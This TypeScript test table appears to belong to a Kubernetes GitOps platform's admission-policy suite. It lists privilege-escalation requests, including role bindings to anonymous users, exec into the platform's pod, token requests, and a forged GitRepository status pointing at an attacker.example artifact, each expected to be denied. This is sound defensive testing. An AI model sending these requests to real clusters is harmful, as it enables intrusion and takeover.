// Issue 20: the fence holds whoever sends the request, through every verb, subresource and
// deputy. The same attacks sent by a table of principals, not only the namespace's own accounts:
// the team's engine account, another team's, a team member's user, system:anonymous (the cluster
// tier sends it with no credentials at all), any authenticated user, and a controller acting for
// the team (kustomize-controller impersonating its account). The escape step by step: the team
// binds the team role to someone else (refused), and what that someone could then do if such a
// binding existed (written by the cluster admins, as `given`): each is refused again.
// Spread into the tables of tables.ts.
import { fluxSyncStateAnnotation } from "../../components/engines/flux1/admission";
import { teamServiceAccountName } from "../../components/engines/flux2/fluxInstance";
import { syncObjectName } from "../../components/engines/flux2/fluxV2";
import { fluxV2TeamRoleName } from "../../components/engines/flux2/fluxV2Cluster";
import { Cluster, podTemplateHash } from "./cluster";
import { fluxControllerAccounts } from "./fixtures/flux2";
import { fluxV2Team } from "./platformCluster";
import { apps, core, ns, stored } from "./requests";
import type { Attack, Expected } from "./tables";
import { serviceAccount, UserInfo } from "./users";

type Json = Record<string, any>;

/** The principals of the table. */
export const principals = {
    engine: serviceAccount("team1", "flux"),
    otherTeam: serviceAccount("team2", "flux"),
    member: { username: "jane@example.com", groups: ["developers", "system:authenticated"] } as UserInfo,
    anonymous: { username: "system:anonymous", groups: ["system:unauthenticated"] } as UserInfo,
    authenticated: { username: "joe@example.com", groups: ["system:authenticated"] } as UserInfo,
    teamPod: serviceAccount("team1", "default"),
    flux2Tenant: serviceAccount(fluxV2Team, teamServiceAccountName),
    kustomizeController: serviceAccount("flux-system", fluxControllerAccounts.kustomize),
} as const;

const platformObjects = "admission policy gitops-platform-objects";
const teamNamespaces = "admission policy gitops-platform-team-namespaces";
const teamBindings = "admission policy gitops-platform-team-bindings";
const platformKinds = "admission policy gitops-platform-kinds";

const teamRole = "gitops-platform:flux-tenant";
const rbacGroup = "rbac.authorization.k8s.io";
const fluxPod = `flux-${podTemplateHash}-x7k2p`;

type Subject = { readonly kind: string; readonly name: string; readonly namespace?: string };
export const subjects = {
    anonymous: { kind: "User", name: "system:anonymous" },
    authenticated: { kind: "Group", name: "system:authenticated" },
    otherTeam: { kind: "ServiceAccount", name: "flux", namespace: "team2" },
    member: { kind: "User", name: "jane@example.com" },
} as const satisfies Record<string, Subject>;

const roleBinding = (namespace: string, name: string, role: string, subject: Subject): Json => ({
    apiVersion: `${rbacGroup}/v1`, kind: "RoleBinding", metadata: { name, namespace },
    roleRef: { apiGroup: rbacGroup, kind: "ClusterRole", name: role }, subjects: [subject],
});

/** The binding of step 1 as if it existed (written by a cluster admin, the only one who still may). */
export const granted = (subject: Subject) => (c: Cluster) => c.with(roleBinding("team1", "given-away", teamRole, subject));

const bindings = (namespace: string) => `/apis/${rbacGroup}/v1/namespaces/${namespace}/rolebindings`;
const privileged = { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } };

/** A GitRepository of the team's own (not the platform's), as its repo could carry it. */
const ownGitRepository = (c: Cluster): Json => {
    const platform = stored(c, "source.toolkit.fluxcd.io", "gitrepositories", fluxV2Team, syncObjectName);
    return {
        apiVersion: "source.toolkit.fluxcd.io/v1", kind: "GitRepository", metadata: { name: "own", namespace: fluxV2Team },
        spec: { ...platform.spec, suspend: true },
    };
};

const canary: Json = {
    apiVersion: "flagger.app/v1beta1", kind: "Canary", metadata: { name: "web", namespace: "team1" },
    spec: {
        targetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "web" }, service: { port: 80 },
        analysis: { interval: "1m", threshold: 5, maxWeight: 50, stepWeight: 10 },
    },
};

/** A Gatekeeper Config in team1, which Gatekeeper reads only in gatekeeper-system (TeamGuard, gitops-platform-kinds). */
const gatekeeperConfigs = "/apis/config.gatekeeper.sh/v1alpha1/namespaces/team1/configs";
const gatekeeperConfig = (who: string): Json => ({
    apiVersion: "config.gatekeeper.sh/v1alpha1", kind: "Config", metadata: { name: `from-${who.toLowerCase()}`, namespace: "team1" }, spec: {},
});

const bindingAttack = (who: keyof typeof principals, to: keyof typeof subjects): Attack => ({
    attack: `as ${describe(who)}, bind the team role in its namespace to ${describeSubject(to)} (step 1 of the escape)`,
    deniedBy: teamBindings,
    request: () => ({
        user: principals[who], method: "POST", path: bindings("team1"),
        body: roleBinding("team1", `to-${to}`, teamRole, subjects[to]),
    }),
});

function describe(who: keyof typeof principals): string {
    return {
        engine: "the team's engine account", otherTeam: "another team's account", member: "a team member's user",
        anonymous: "system:anonymous", authenticated: "any authenticated user", teamPod: "a pod's account of the namespace",
        flux2Tenant: "a Flux v2 team's account", kustomizeController: "kustomize-controller",
    }[who];
}

function describeSubject(to: keyof typeof subjects): string {
    return { anonymous: "system:anonymous", authenticated: "system:authenticated", otherTeam: "another team's account", member: "a person" }[to];
}

export const principalAttacks: readonly Attack[] = [
    bindingAttack("engine", "anonymous"),
    bindingAttack("engine", "authenticated"),
    bindingAttack("engine", "otherTeam"),
    bindingAttack("engine", "member"),
    {
        attack: "as kustomize-controller acting for a Flux v2 team, apply a RoleBinding of the team's repo giving its role to system:unauthenticated",
        deniedBy: teamBindings,
        request: () => ({
            user: principals.kustomizeController, impersonate: { serviceAccount: { namespace: fluxV2Team, name: teamServiceAccountName } },
            method: "PATCH", patchType: "apply", path: `${bindings(fluxV2Team)}/open?fieldManager=${fluxControllerAccounts.kustomize}&force=true`,
            body: roleBinding(fluxV2Team, "open", fluxV2TeamRoleName, { kind: "Group", name: "system:unauthenticated" }),
        }),
    },
    {
        attack: "as the team's engine account, add another team's account to a RoleBinding of its own",
        deniedBy: teamBindings,
        given: (c) => c.with(roleBinding("team1", "default-admin", teamRole, { kind: "ServiceAccount", name: "default", namespace: "team1" })),
        request: () => ({
            user: principals.engine, method: "PATCH", path: `${bindings("team1")}/default-admin`,
            body: { subjects: [{ kind: "ServiceAccount", name: "default", namespace: "team1" }, subjects.otherTeam] },
        }),
    },
    {
        attack: "as system:anonymous, with the team role bound to it, relabel the team's Namespace privileged (step 2)",
        deniedBy: teamNamespaces, given: granted(subjects.anonymous),
        request: () => ({ user: principals.anonymous, method: "PATCH", path: ns("team1"), body: privileged }),
    },
    {
        attack: "as any authenticated user, with the team role bound to system:authenticated, drop the team label from the Namespace",
        deniedBy: teamNamespaces, given: granted(subjects.authenticated),
        request: () => ({ user: principals.authenticated, method: "PATCH", path: ns("team1"), body: { metadata: { labels: { "gitops-platform/team": null } } } }),
    },
    ...(["member", "anonymous", "otherTeam"] as const).map((who): Attack => ({
        attack: `as ${describe(who)}, with the team role bound to it, create a Gatekeeper Config in the team's namespace, outside every quota`,
        deniedBy: platformKinds, given: granted(subjects[who]),
        request: () => ({ user: principals[who], method: "POST", path: gatekeeperConfigs, body: gatekeeperConfig(who) }),
    })),
    {
        attack: "as another team's account, with no binding, create a Gatekeeper Config in the team's namespace",
        deniedBy: "RBAC",
        request: () => ({ user: principals.otherTeam, method: "POST", path: gatekeeperConfigs, body: gatekeeperConfig("otherTeam") }),
    },
    {
        attack: "as another team's account, with the team role bound to it, delete the team's quota",
        deniedBy: platformObjects, given: granted(subjects.otherTeam),
        request: () => ({ user: principals.otherTeam, method: "DELETE", path: core("team1", "resourcequotas", "platform-quota") }),
    },
    {
        attack: "as a team member's user, with the team role bound to it, delete the team's network policy",
        deniedBy: platformObjects, given: granted(subjects.member),
        request: () => ({ user: principals.member, method: "DELETE", path: "/apis/networking.k8s.io/v1/namespaces/team1/networkpolicies/platform-isolation" }),
    },
    {
        attack: "as a team member's user, with the team role bound to it, delete the team's Namespace",
        deniedBy: teamNamespaces, given: granted(subjects.member),
        request: () => ({ user: principals.member, method: "DELETE", path: ns("team1") }),
    },
    {
        attack: "as a team member's user, with the team role bound to it, scale the platform's Flux Deployment to zero",
        deniedBy: platformObjects, given: granted(subjects.member),
        request: () => ({ user: principals.member, method: "PATCH", path: `${apps("team1", "deployments", "flux")}/scale`, body: { spec: { replicas: 0 } } }),
    },
    {
        attack: "as system:anonymous, with the team role bound to it, delete every limit range of the namespace (deletecollection, judged object by object)",
        deniedBy: platformObjects, given: granted(subjects.anonymous),
        request: () => ({ user: principals.anonymous, method: "DELETE", path: core("team1", "limitranges") }),
    },
    {
        attack: "as the team's engine account, delete every quota of the namespace (deletecollection)",
        deniedBy: platformObjects,
        request: () => ({ user: principals.engine, method: "DELETE", path: core("team1", "resourcequotas") }),
    },
    {
        attack: "as the team's engine account, exec into the platform's fluxd pod (CONNECT pods/exec, no labels to go by)",
        deniedBy: platformObjects,
        request: () => ({ user: principals.engine, method: "POST", path: `${core("team1", "pods", fluxPod)}/exec?command=sh&stdin=true&stdout=true&tty=true` }),
    },
    {
        attack: "as a team member's user, with the team role bound to it, attach to the platform's fluxd pod",
        deniedBy: platformObjects, given: granted(subjects.member),
        request: () => ({ user: principals.member, method: "POST", path: `${core("team1", "pods", fluxPod)}/attach?stdout=true` }),
    },
    {
        attack: "as the team's engine account, port-forward to the platform's fluxd pod (its API on 3030)",
        deniedBy: platformObjects,
        request: () => ({ user: principals.engine, method: "POST", path: `${core("team1", "pods", fluxPod)}/portforward?ports=3030` }),
    },
    {
        attack: "as the team's engine account, evict the platform's fluxd pod",
        deniedBy: platformObjects,
        request: () => ({
            user: principals.engine, method: "POST", path: `${core("team1", "pods", fluxPod)}/eviction`,
            body: { apiVersion: "policy/v1", kind: "Eviction", metadata: { name: fluxPod, namespace: "team1" } },
        }),
    },
    {
        attack: "as a pod's account the team gave every right in its namespace, request a token for the engine's ServiceAccount (TokenRequest)",
        deniedBy: platformObjects,
        given: (c) => c.with(roleBinding("team1", "default-admin", teamRole, { kind: "ServiceAccount", name: "default", namespace: "team1" })),
        request: () => ({
            user: principals.teamPod, method: "POST", path: `${core("team1", "serviceaccounts", "flux")}/token`,
            body: { apiVersion: "authentication.k8s.io/v1", kind: "TokenRequest", spec: { audiences: ["https://kubernetes.default.svc"], expirationSeconds: 3600 } },
        }),
    },
    {
        attack: "as a Flux v2 team's account, write status.artifact of its own suspended GitRepository (kustomize-controller would fetch the URL it names)",
        deniedBy: platformObjects,
        given: (c) => c.with(ownGitRepository(c)),
        request: (c) => ({
            user: principals.flux2Tenant, method: "PUT", path: `/apis/source.toolkit.fluxcd.io/v1/namespaces/${fluxV2Team}/gitrepositories/own/status`,
            body: {
                ...ownGitRepository(c),
                status: {
                    artifact: {
                        path: "x", url: "http://attacker.example/artifact.tar.gz", revision: "main@sha1:0123456789abcdef0123456789abcdef01234567",
                        digest: `sha256:${"0".repeat(64)}`, lastUpdateTime: "2026-01-01T00:00:00Z",
                    },
                },
            },
        }),
    },
    {
        attack: "as the team's engine account, mark its Canary's analysis succeeded (Flagger acts on a Canary's status)",
        deniedBy: platformObjects,
        given: (c) => c.with(canary),
        request: () => ({ user: principals.engine, method: "PUT", path: "/apis/flagger.app/v1beta1/namespaces/team1/canaries/web/status", body: { ...canary, status: { phase: "Succeeded" } } }),
    },
    {
        attack: "as a team member's user, with the team role bound to it, send fluxd's sync-state patch",
        deniedBy: platformObjects, given: granted(subjects.member),
        request: () => ({ user: principals.member, method: "PATCH", path: core("team1", "secrets", "flux-git-deploy"), body: { metadata: { annotations: { [fluxSyncStateAnnotation]: "0".repeat(40) } } } }),
    },
];

const controller = (name: string) => serviceAccount("kube-system", name);

export const principalExpected: readonly Expected[] = [
    {
        who: "kube-controller-manager's namespace controller", does: "delete the platform's quota of a namespace being removed (offboarding)",
        source: "kubernetes v1.37.2 pkg/controller/namespace/deletion/namespaced_resources_deleter.go, deleteCollection",
        request: () => ({ user: controller("namespace-controller"), method: "DELETE", path: core("team1", "resourcequotas") }),
    },
    {
        who: "kube-controller-manager's namespace controller", does: "delete the platform's Flux Deployment of a namespace being removed",
        source: "kubernetes v1.37.2 pkg/controller/namespace/deletion/namespaced_resources_deleter.go, deleteEachItem",
        request: () => ({ user: controller("namespace-controller"), method: "DELETE", path: apps("team1", "deployments", "flux") }),
    },
    {
        who: "kube-controller-manager's garbage collector", does: "delete the ReplicaSet of the platform's Flux Deployment once it is gone",
        source: "kubernetes v1.37.2 pkg/controller/garbagecollector/garbagecollector.go, attemptToDeleteItem",
        request: () => ({ user: controller("generic-garbage-collector"), method: "DELETE", path: apps("team1", "replicasets", `flux-${podTemplateHash}`) }),
    },
    {
        who: "kube-controller-manager's ReplicaSet controller", does: "create a pod of the platform's Flux ReplicaSet",
        source: "kubernetes v1.37.2 pkg/controller/replicaset/replica_set.go, manageReplicas (CreatePods)",
        request: (c) => {
            const pod = stored(c, "", "pods", "team1", fluxPod);
            return { user: controller("replicaset-controller"), method: "POST", path: core("team1", "pods"), body: { ...pod, metadata: { ...pod.metadata, name: `flux-${podTemplateHash}-b9q4w` } } };
        },
    },
    {
        who: "a team's engine", does: "bind the team role to another ServiceAccount of its own namespace",
        source: "components/fence/teamBindingsCel.ts: the namespace's own accounts may be named",
        request: () => ({ user: principals.engine, method: "POST", path: bindings("team1"), body: roleBinding("team1", "worker", teamRole, { kind: "ServiceAccount", name: "worker" }) }),
    },
];
